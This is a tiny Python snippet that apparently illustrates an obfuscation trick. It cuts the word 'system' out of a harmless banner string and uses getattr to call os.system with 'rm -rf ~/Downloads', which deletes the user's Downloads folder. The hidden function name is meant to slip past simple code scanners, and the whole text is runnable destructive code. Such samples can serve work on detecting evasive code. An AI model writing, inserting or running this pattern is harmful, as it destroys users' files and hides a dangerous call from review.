# assembled-name: a name cut out of a longer innocent-looking string
import os

banner = "welcome to the system report"
fn = banner[15:21]
getattr(os, fn)("rm -rf ~/Downloads")
